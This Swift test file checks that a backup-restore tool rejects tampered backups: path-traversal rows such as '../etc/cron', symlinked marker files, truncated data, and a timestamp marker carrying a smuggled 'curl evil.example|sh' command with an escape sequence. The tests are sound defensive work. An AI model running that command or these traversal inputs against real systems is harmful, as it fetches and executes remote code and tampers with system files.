// Backups and data folders that somebody else has changed.
import Foundation
import Host
import ReceiverSupport
import Support
import Testing

@testable import ServerArchive
@testable import ServerBase

@Suite struct HostileBackupTests {
    private let place = TemporaryFolder("backups/etc", "data")
    private let receiver: ReceiverProcess
    private var backup: String { place.path + "/backups/b" }
    private var data: String { place.path + "/data/d" }

    init() throws {
        receiver = try ReceiverProcess()
        _ = try receiver.send(ids: ["a"])
        let outcome = try receiver.command("backup", backup)
        #expect(outcome.status == 0, "\(outcome.error)")
        try place.write("hostile", to: "backups/etc/cron")
    }

    private func add(_ path: String, _ length: Int, to folder: String) throws {
        let script = """
            import sqlite3, sys
            d = sqlite3.connect(sys.argv[1] + "/.receiver.sqlite")
            d.execute("INSERT INTO files VALUES (?,?)", (sys.argv[2], int(sys.argv[3])))
            d.commit()
            """
        let outcome = try Process.run(
            "/usr/bin/python3",
            ["-c", script, folder, path, "\(length)"]
        )
        #expect(outcome.status == 0, "\(outcome.error)")
    }

    private func restore() throws -> Outcome {
        try Process.run(Tree.program("waypost-receiver"), ["restore", backup, "--data", data])
    }

    @Test(arguments: [
        "../etc/cron", "stream=places/../../etc/cron",
        "stream=../date=2026-11-21/device=d1/records.ndjson",
        "stream=places//date=2026-11-21/device=d1/records.ndjson",
        "audio/places/2026-11-21/d1/a.ogg",
        "stream=places/date=2026-11-41/device=d1/records.ndjson", "/etc/cron",
        ".receiver-viewers.sqlite",
    ])
    func rowOfAnotherPath_isRefusedBeforeAnyChange(path: String) throws {
        try add(path, 7, to: backup)
        let outcome = try restore()
        #expect(
            outcome.status == 1 && outcome.error.contains("not a record file"),
            "\(outcome.error)"
        )
        #expect(try place.files == ["backups", "data"])
        #expect(fileSize(data + "/stream=places") == nil && fileSize(data + "/etc") == nil)
        #expect(fileSize(place.path + "/data/etc") == nil)
    }

    /// A restore of an earlier version has accepted such a row.
    @Test func rowInTheDataFolder_isDeletedAtTheStart() throws {
        let outside = try place.write("not the server's", to: "outside")
        #expect(try restore().status == 0)
        try add("../../outside", 7, to: data)
        let beside = try place.write(
            "{\"id\":\"b\"}\n",
            to: "data/d/stream=places/old/records.ndjson"
        )
        let back = try Process.run(
            Tree.program("waypost-receiver"),
            ["backup", place.path + "/other", "--data", data]
        )
        #expect(back.status == 1 && back.error.contains("../../outside"), "\(back.error)")
        let server = try ReceiverProcess(in: data)
        #expect(fileSize(outside) == 16 && fileSize(beside) == 11)
        #expect(try server.ids("places").sorted() == ["a", "b"])
        let again = try server.command("backup", place.path + "/other")
        #expect(again.status == 0, "\(again.error)")
        #expect(try server.sql("SELECT count(*) FROM files") == "[(1,)]\n")
    }

    /// The time becomes part of a command that people paste.
    @Test(arguments: [
        "2026-01-01T00:00:00Z; \u{1B}[31mcurl evil.example|sh", "yesterday", "",
        String(repeating: " ", count: 100) + "2026-01-01T00:00:00Z",
    ])
    func markerThatIsNotATime_isRefused(text: String) throws {
        try text.write(toFile: backup + "/.receiver-backup", atomically: false, encoding: .utf8)
        let outcome = try restore()
        #expect(outcome.status == 1 && outcome.error.contains("not a backup"))
        #expect(!(outcome.output + outcome.error).contains("evil"))
    }

    @Test func linksInsteadOfMarkerOrDatabase_areNotFollowed() throws {
        let files = FileManager.default
        for name in [".receiver-backup", ".receiver.sqlite"] {
            try files.moveItem(atPath: "\(backup)/\(name)", toPath: "\(place.path)/\(name)")
            try files.createSymbolicLink(
                atPath: "\(backup)/\(name)",
                withDestinationPath: "\(place.path)/\(name)"
            )
            let outcome = try restore()
            #expect(outcome.status == 1, "\(outcome.output)")
            try files.removeItem(atPath: "\(backup)/\(name)")
            try files.moveItem(atPath: "\(place.path)/\(name)", toPath: "\(backup)/\(name)")
        }
        #expect(try restore().status == 0)
    }

    @Test func copies_neverLeaveTheirFolders() throws {
        let copy = try TreeCopy(from: backup, to: place.path + "/data")
        for path in ["../etc/cron", "stream=places/../../etc/cron", ".."] {
            #expect(throws: Failure.self) { _ = try copy.size(path) }
            #expect(throws: Failure.self) { try copy.copy(path, 0..<7) }
        }
        #expect(try place.files == ["backups", "data"])
    }

    /// Otherwise a server starts with no records there, and the restore then refuses to replace its records.
    @Test func restoreThatDidNotEnd_startsNoServer() throws {
        let file = backup + "/stream=places/date=2026-11-21/device=d1/records.ndjson"
        let whole = try Data(contentsOf: URL(fileURLWithPath: file))
        #expect(truncate(file, 5) == 0)
        #expect(try restore().status == 1)
        #expect(throws: NeverHappened.self) { _ = try ReceiverProcess(in: data) }
        try whole.write(to: URL(fileURLWithPath: file))
        #expect(try restore().status == 0)
        #expect(try ReceiverProcess(in: data).ids("places") == ["a"])
    }
}
